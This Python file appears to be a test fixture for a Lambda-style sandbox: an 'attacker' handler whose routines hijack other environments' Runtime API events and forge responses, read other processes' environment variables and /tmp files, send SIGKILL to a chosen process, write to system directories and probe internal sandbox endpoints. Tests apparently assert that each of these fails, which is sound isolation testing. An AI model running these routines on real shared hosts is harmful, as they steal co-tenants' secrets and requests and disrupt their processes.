"""The attacker: each `attack` in the event is one thing an untrusted function could try. It
answers with what it reached; the tests assert it reached nothing of anyone else's."""

from __future__ import annotations

import contextlib
import errno
import json
import os
import signal
import socket
import time
import urllib.error
import urllib.request
from typing import Any


def _listening_loopback_ports() -> list[int]:
    """Every TCP port listening on 127.0.0.1 (the host's network is shared)."""
    ports = []
    with open("/proc/net/tcp") as f:
        for line in f.readlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, port = local.split(":")
            if state == "0A" and address in ("0100007F", "00000000"):
                ports.append(int(port, 16))
    return sorted(set(ports))


def _raw_get(port: int, path: str, timeout: float) -> tuple[int, bytes] | None:
    """A GET on 127.0.0.1:port; (status, body), or None when nothing answered."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as conn:
            conn.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
            data = b""
            while True:
                chunk = conn.recv(65536)
                if not chunk:
                    break
                data += chunk
    except OSError:
        return None
    if not data.startswith(b"HTTP/1."):
        return None
    head, _, body = data.partition(b"\r\n\r\n")
    return int(head.split()[1]), body


def steal_events(event: dict[str, Any]) -> dict[str, Any]:
    """Poll every other Runtime API's /next (another environment's events), forge answers."""
    own = int(os.environ["AWS_LAMBDA_RUNTIME_API"].rsplit(":", 1)[1])
    deadline = time.monotonic() + float(event.get("seconds", 6))
    stolen, forged, tried = [], [], []
    ports = [p for p in _listening_loopback_ports() if p != own]
    socks = []
    for port in ports:
        try:
            conn = socket.create_connection(("127.0.0.1", port), timeout=1)
            conn.sendall(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n")
            conn.settimeout(0.2)
            socks.append((port, conn, b""))
            tried.append(port)
        except OSError:
            continue
    while socks and time.monotonic() < deadline:
        still = []
        for port, conn, data in socks:
            try:
                chunk = conn.recv(65536)
            except TimeoutError:
                still.append((port, conn, data))
                continue
            except OSError:
                conn.close()
                continue
            data += chunk
            head, _, body = data.partition(b"\r\n\r\n")
            if b"lambda-runtime-aws-request-id" in head.lower() and body:
                rid = next(
                    line.split(b":", 1)[1].strip().decode()
                    for line in head.split(b"\r\n")
                    if line.lower().startswith(b"lambda-runtime-aws-request-id")
                )
                stolen.append({"port": port, "event": body.decode("utf-8", "replace")})
                reply = _post(port, f"/2018-06-01/runtime/invocation/{rid}/response",
                              b'{"forged": true}')  # fmt: skip
                if reply is not None and reply < 300:
                    forged.append(port)
                conn.close()
            elif chunk:
                still.append((port, conn, data))
            else:
                conn.close()
        socks = still
    for _, conn, _ in socks:
        conn.close()
    return {"tried": tried, "stolen": stolen, "forged": forged}


def _post(port: int, path: str, body: bytes) -> int | None:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as conn:
            conn.sendall(
                f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n"
                f"Connection: close\r\n\r\n".encode()
                + body
            )
            data = conn.recv(4096)
        return int(data.split()[1])
    except (OSError, IndexError, ValueError):
        return None


def read_processes(event: dict[str, Any]) -> dict[str, Any]:
    """Every other process: its environment, command line, /tmp (through /proc/<pid>/root), and
    whether it can be signalled."""
    me = os.getpid()
    found: dict[str, Any] = {"visible": [], "environ": [], "tmp": [], "signalled": [],
                             "cmdline_1": None}  # fmt: skip
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        pid = int(name)
        try:
            uid = os.stat(f"/proc/{pid}").st_uid
        except OSError:
            continue
        found["visible"].append({"pid": pid, "uid": uid})
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                data = f.read()
            if data:
                found["environ"].append({"pid": pid, "environ": data.decode("utf-8", "replace")})
        except OSError:
            pass
        with contextlib.suppress(OSError):
            found["tmp"].append({"pid": pid, "files": os.listdir(f"/proc/{pid}/root/tmp")})
        try:
            os.kill(pid, 0)  # signal 0: may I signal it? (no harm done)
            found["signalled"].append(pid)
        except OSError:
            pass
    try:
        with open("/proc/1/cmdline", "rb") as f:
            found["cmdline_1"] = f.read().decode("utf-8", "replace")
    except OSError:
        pass
    target = event.get("kill")
    if target:
        try:
            os.kill(int(target), signal.SIGKILL)
            found["killed"] = True
        except OSError:
            found["killed"] = False
    return found


def host_files(event: dict[str, Any]) -> dict[str, Any]:
    """The host's /tmp (a file the test put there), and every place outside /tmp a function
    might write to."""
    marker = event.get("marker", "")
    found: dict[str, Any] = {"read": [], "written": []}
    for path in [f"/tmp/{marker}", f"/proc/1/root/tmp/{marker}", f"/var/tmp/{marker}"]:
        try:
            with open(path) as f:
                found["read"].append({"path": path, "text": f.read()})
        except OSError:
            pass
    for folder in ["/", "/var/tmp", "/dev/shm", "/var/task", "/opt", "/var/runtime", "/var/lang",
                   "/etc", "/usr", "/root", "/home", "/var", "/run", "/dev",
                   "/proc/1/root/tmp"]:  # fmt: skip
        path = os.path.join(folder, f"attacker-was-here-{os.getpid()}")
        try:
            with open(path, "w") as f:
                f.write("x")
            found["written"].append(path)
        except OSError as exc:
            if exc.errno not in (errno.EROFS, errno.EACCES, errno.ENOENT, errno.EPERM):
                found.setdefault("errors", []).append(f"{path}: {exc}")
    return found


def sandbox_api(event: dict[str, Any]) -> dict[str, Any]:
    """The sandbox's own endpoints (configuration, logs, concurrency of other functions), and
    a Lambda API call to another function (allowed, as on AWS with a role that allows it)."""
    endpoint = os.environ.get("AWS_ENDPOINT_URL_LAMBDA", "")
    result: dict[str, Any] = {"endpoint": endpoint, "reached": {}, "lambda_api": None}
    for path in ["/_sandbox/info", "/_sandbox/functions", "/_sandbox/logs?function=victim",
                 "/metrics"]:  # fmt: skip
        try:
            with urllib.request.urlopen(endpoint + path, timeout=5) as resp:
                result["reached"][path] = resp.status
        except urllib.error.HTTPError as exc:
            result.setdefault("refused", {})[path] = [exc.code, exc.read().decode()[:300]]
        except (OSError, ValueError) as exc:
            result.setdefault("unreachable", {})[path] = str(exc)
    try:
        request = urllib.request.Request(
            endpoint + "/2015-03-31/functions/victim/invocations",
            data=json.dumps({"from": "attacker"}).encode(),
            method="POST",
        )
        with urllib.request.urlopen(request, timeout=20) as resp:
            result["lambda_api"] = json.loads(resp.read())
    except (OSError, ValueError) as exc:
        result["lambda_api"] = f"failed: {exc}"
    return result


ATTACKS = {
    "steal_events": steal_events,
    "read_processes": read_processes,
    "host_files": host_files,
    "sandbox_api": sandbox_api,
}


def handler(event: dict[str, Any], context: Any) -> dict[str, Any]:
    return {"uid": os.getuid(), "pid": os.getpid(), **ATTACKS[event["attack"]](event)}
